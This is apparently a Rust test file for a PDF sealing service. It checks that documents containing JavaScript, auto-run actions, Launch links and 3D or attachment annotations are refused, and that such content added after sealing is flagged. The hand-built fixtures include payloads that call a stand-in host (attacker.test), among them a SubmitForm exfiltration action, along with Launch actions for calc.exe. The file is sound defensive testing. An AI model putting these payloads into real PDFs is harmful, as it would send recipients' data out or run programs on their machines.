//! Active content in PDFs (issue 8 item 5): `POST /v1/seals/{id}/stamp` refuses every kind of
//! it by one whitelist (`pdf::active`), naming the construct and where it is; a hyperlink the
//! reader clicks is sealed and listed in the verification report; and the same whitelist
//! judges what a revision adds after a seal, so that adding active content to a sealed
//! document is never VALID.
//!
//! The hostile documents are written here by hand, one small page each, with an exact
//! cross-reference table, so that the only thing wrong with each is the construct under test.

mod common;

use std::collections::BTreeMap;

use axum::http::StatusCode;
use common::{TestVault, call_bytes, json_answer, post_raw};
use serde_json::{Value, json};
use sidian::pdf::{Dict, Limits, Object, PdfFile, Ref};

const MODIFIED: &str = "MODIFIED_AFTER_SEALING";

/// A vault on SQLite, one approval system and one P-256 seal of it.
struct Lab {
    tv: TestVault,
    key: String,
    seal: String,
}

impl Lab {
    async fn open() -> Lab {
        let tv = TestVault::open(None).await;
        let key = tv.client("approval-a", &[]).await;
        let seal = common::create_contract_seal(&tv, &key, "p256").await;
        Lab { tv, key, seal }
    }

    async fn stamp(&self, pdf: &[u8]) -> (StatusCode, Vec<u8>) {
        call_bytes(
            &self.tv,
            &format!("/v1/seals/{}/stamp?x=20&y=20&unit=mm", self.seal),
            Some(&self.key),
            "application/pdf",
            pdf.to_vec(),
        )
        .await
    }

    /// The sealed PDF.
    async fn sealed(&self, pdf: &[u8]) -> Vec<u8> {
        let (status, out) = self.stamp(pdf).await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&out));
        out
    }

    /// Asserts a 422 `pdf_refused` whose message names each of `says`.
    async fn assert_refused(&self, pdf: &[u8], says: &[&str], case: &str) {
        let (status, body) = json_answer(self.stamp(pdf).await);
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{case}: {body}");
        assert_eq!(body["error"]["code"], "pdf_refused", "{case}: {body}");
        let message = body["error"]["message"].as_str().expect("message");
        for s in says {
            assert!(
                message.contains(s),
                "{case}: the refusal {message:?} does not name {s:?}"
            );
        }
    }

    async fn verify(&self, pdf: &[u8]) -> Value {
        let (status, report) = post_raw(
            &self.tv,
            "/v1/documents/verify",
            "application/pdf",
            pdf.to_vec(),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{report}");
        report
    }
}

/// A one-page document with an exact cross-reference table: the catalog (1) with `catalog`
/// added, the page tree (2), the page (3) with `page` added, its content stream (4), then
/// `extra` as objects 5, 6, ….
fn one_page(catalog: &str, page: &str, extra: &[&str]) -> Vec<u8> {
    let content = "BT /F1 24 Tf 72 720 Td (Contract) Tj ET";
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
             /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> {page} >>"
        ),
        format!(
            "<< /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ),
    ];
    objects.extend(extra.iter().map(|s| (*s).to_owned()));
    common::pdf_of(&objects)
}

/// A stream object's text.
fn stream(dict: &str, data: &str) -> String {
    format!(
        "<< {dict} /Length {} >>\nstream\n{data}\nendstream",
        data.len()
    )
}

/// A page annotation dictionary of `subtype` with `extra` entries.
fn annot(subtype: &str, extra: &str) -> String {
    format!("<< /Type /Annot /Subtype /{subtype} /Rect [300 600 500 700] {extra} >>")
}

/// `base` plus a clean incremental update of `objects` (number → text between `obj` and
/// `endobj`), the newest trailer carried over with `/Size` and `/Prev` set.
fn append(base: &[u8], objects: &BTreeMap<u32, String>) -> Vec<u8> {
    let f = PdfFile::open(base, &Limits::default()).expect("the base opens strictly");
    let last = f.sections().last().expect("a section");
    let mut trailer = last.trailer.clone();
    let mut out = base.to_vec();
    let mut offsets = Vec::new();
    for (num, body) in objects {
        offsets.push((*num, out.len()));
        out.extend_from_slice(format!("{num} 0 obj\n{body}\nendobj\n").as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(b"xref\n0 1\n0000000000 65535 f\r\n");
    for (num, at) in &offsets {
        out.extend_from_slice(format!("{num} 1\n{at:010} 00000 n\r\n").as_bytes());
    }
    let size = trailer
        .get(b"Size")
        .and_then(Object::as_int)
        .expect("/Size");
    let max = objects.keys().max().map_or(0, |&m| i64::from(m) + 1);
    trailer.set(b"Size", Object::Int(size.max(max)));
    let prev = i64::try_from(last.xref_offset).expect("offset");
    trailer.set(b"Prev", Object::Int(prev));
    trailer.remove(b"XRefStm");
    out.extend_from_slice(b"trailer\n");
    trailer.write(&mut out);
    out.extend_from_slice(format!("\nstartxref\n{xref}\n%%EOF\n").as_bytes());
    out
}

/// The newest revision's first page (reference and dictionary) and the next free number.
fn first_page(pdf: &[u8]) -> (Ref, Dict, u32) {
    let f = PdfFile::open(pdf, &Limits::default()).expect("opens");
    let n = f.sections().len();
    let page = f.pages_at(n).expect("pages")[0];
    let Object::Dict(d) = f.get(page).expect("page") else {
        panic!("the page is not a dictionary")
    };
    let size = f.trailer().get(b"Size").and_then(Object::as_int);
    let next = u32::try_from(size.expect("/Size")).expect("small");
    (page, d, next)
}

fn text(d: &Dict) -> String {
    let mut out = Vec::new();
    Object::Dict(d.clone()).write(&mut out);
    String::from_utf8(out).expect("ASCII")
}

#[tokio::test]
async fn a_3d_annotation_that_runs_javascript_is_refused() {
    let lab = Lab::open().await;
    let pdf = one_page(
        "",
        "/Annots [5 0 R]",
        &[
            &annot("3D", "/3DD 6 0 R /3DA << /A /PO >>"),
            &stream(
                "/Type /3D /Subtype /U3D /OnInstantiate 7 0 R",
                "U3D (not really)",
            ),
            &stream("", "app.launchURL('https://attacker.test/', true);"),
        ],
    );
    lab.assert_refused(
        &pdf,
        &["annotation 5 on page 1", "/Subtype /3D", "active content"],
        "3D",
    )
    .await;
}

#[tokio::test]
async fn page_actions_are_refused_naming_the_action() {
    let lab = Lab::open().await;
    for action in [
        "/S /GoToR /F (other.pdf) /D [0 /Fit]",
        "/S /SubmitForm /F << /FS /URL /F (https://attacker.test/collect) >>",
        "/S /ImportData /F (attacker.fdf)",
        "/S /URI /URI (https://attacker.test/opened)",
    ] {
        let kind = action.split(' ').nth(1).expect("the action type");
        let pdf = one_page("", &format!("/AA << /O << {action} >> >>"), &[]);
        lab.assert_refused(
            &pdf,
            &[&format!("page 1: /AA /O action {kind} runs by itself")],
            kind,
        )
        .await;
    }
}

#[tokio::test]
async fn open_actions_other_than_a_go_to_a_page_are_refused() {
    let lab = Lab::open().await;
    for (open, says) in [
        (
            "<< /S /JavaScript /JS (app.alert(1)) >>",
            "/OpenAction action /JavaScript is active content",
        ),
        (
            "<< /S /URI /URI (https://attacker.test/) >>",
            "/OpenAction action /URI is active content",
        ),
        (
            "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>",
            "chains further actions (/Next)",
        ),
    ] {
        let pdf = one_page(&format!("/OpenAction {open}"), "", &[]);
        lab.assert_refused(&pdf, &["document catalog", says], open)
            .await;
    }
    // A go-to page 1 on opening stays, as does a bare destination.
    for open in ["<< /S /GoTo /D [3 0 R /Fit] >>", "[3 0 R /XYZ 0 842 0]"] {
        let sealed = lab
            .sealed(&one_page(&format!("/OpenAction {open}"), "", &[]))
            .await;
        let report = lab.verify(&sealed).await;
        assert_eq!(report["verdict"], "VALID", "{open}: {report}");
    }
}

#[tokio::test]
async fn media_and_attachment_annotations_and_launching_links_are_refused() {
    let lab = Lab::open().await;
    for (subtype, extra) in [
        (
            "RichMedia",
            "/RichMediaContent << /Assets << /Names [] >> >> /RichMediaSettings << >>",
        ),
        ("Screen", "/A << /S /Rendition /OP 0 /JS (app.alert(1)) >>"),
        (
            "FileAttachment",
            "/FS << /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
        ),
    ] {
        let pdf = one_page(
            "",
            "/Annots [5 0 R]",
            &[&annot(subtype, extra), &stream("/Type /EmbeddedFile", "MZ")],
        );
        lab.assert_refused(
            &pdf,
            &[
                "annotation 5 on page 1",
                &format!("/Subtype /{subtype} is no passive annotation"),
            ],
            subtype,
        )
        .await;
    }
    let launch = one_page(
        "",
        "/Annots [5 0 R]",
        &[&annot("Link", "/A << /S /Launch /F (calc.exe) >>")],
    );
    lab.assert_refused(
        &launch,
        &[
            "annotation 5 on page 1",
            "link action /Launch is active content",
        ],
        "Launch",
    )
    .await;
}

#[tokio::test]
async fn a_hyperlink_is_sealed_and_listed_in_the_report() {
    let lab = Lab::open().await;
    let pdf = one_page(
        "",
        "/Annots [5 0 R 6 0 R]",
        &[
            &annot(
                "Link",
                "/Border [0 0 0] /A << /S /URI /URI (https://example.org/terms?v=2) >>",
            ),
            &annot("Link", "/Dest [3 0 R /Fit]"),
        ],
    );
    let sealed = lab.sealed(&pdf).await;
    let report = lab.verify(&sealed).await;
    assert_eq!(report["verdict"], "VALID", "{report}");
    assert_eq!(
        report["links"],
        json!([{"page": 1, "uri": "https://example.org/terms?v=2"}]),
        "{report}"
    );
    // A document without links has no `links` entry.
    let plain = lab.sealed(&one_page("", "", &[])).await;
    let report = lab.verify(&plain).await;
    assert_eq!(report["verdict"], "VALID", "{report}");
    assert!(report.get("links").is_none(), "{report}");
}

#[tokio::test]
async fn active_content_added_after_sealing_is_never_valid() {
    let lab = Lab::open().await;
    let sealed = lab.sealed(&one_page("", "", &[])).await;
    let (page, page_dict, next) = first_page(&sealed);

    let mut with_aa = page_dict.clone();
    with_aa.set(
        b"AA",
        Object::Dict(Dict(vec![(
            b"O".to_vec(),
            Object::Dict(Dict(vec![
                (b"S".to_vec(), Object::name(b"SubmitForm")),
                (b"F".to_vec(), Object::string(b"https://attacker.test/")),
            ])),
        )])),
    );
    let page_aa = append(&sealed, &BTreeMap::from([(page.num, text(&with_aa))]));

    let mut with_3d = page_dict.clone();
    let mut annots = page_dict
        .get(b"Annots")
        .and_then(Object::as_array)
        .expect("the seal's widget")
        .to_vec();
    annots.push(Object::Ref(Ref::new(next)));
    with_3d.set(b"Annots", Object::Array(annots));
    let three_d = append(
        &sealed,
        &BTreeMap::from([
            (page.num, text(&with_3d)),
            (next, annot("3D", &format!("/3DD {} 0 R", next + 1))),
            (
                next + 1,
                stream("/Type /3D /Subtype /U3D /OnInstantiate << /JS (1) >>", "x"),
            ),
        ]),
    );

    let f = PdfFile::open(&sealed, &Limits::default()).expect("opens");
    let (root, mut catalog) = f.catalog_at(f.sections().len()).expect("catalog");
    catalog.set(
        b"OpenAction",
        Object::Dict(Dict(vec![
            (b"S".to_vec(), Object::name(b"URI")),
            (b"URI".to_vec(), Object::string(b"https://attacker.test/")),
        ])),
    );
    let open_action = append(&sealed, &BTreeMap::from([(root.num, text(&catalog))]));

    for (pdf, says, case) in [
        (
            &page_aa,
            "adds active content: page 1: /AA /O action /SubmitForm runs by itself",
            "page /AA",
        ),
        (
            &three_d,
            &*format!(
                "adds active content: annotation {next} on page 1: /Subtype /3D is no passive annotation"
            ),
            "3D annotation",
        ),
        (
            &open_action,
            "adds active content: document catalog: /OpenAction action /URI is active content",
            "/OpenAction",
        ),
    ] {
        let report = lab.verify(pdf).await;
        assert_eq!(report["verdict"], MODIFIED, "{case}: {report}");
        let signature = &report["signatures"][0];
        assert_eq!(signature["verdict"], MODIFIED, "{case}: {report}");
        assert_eq!(
            signature["intact"], true,
            "{case}: the seal itself is intact"
        );
        let later = signature["checks"]
            .as_array()
            .expect("checks")
            .iter()
            .find(|c| c["name"] == "pdf.later_changes")
            .expect("a later-changes check");
        assert_eq!(later["ok"], false, "{case}: {later}");
        let detail = later["detail"].as_str().expect("detail");
        assert!(
            detail.contains(says),
            "{case}: {detail:?} does not say {says:?}"
        );
    }
}
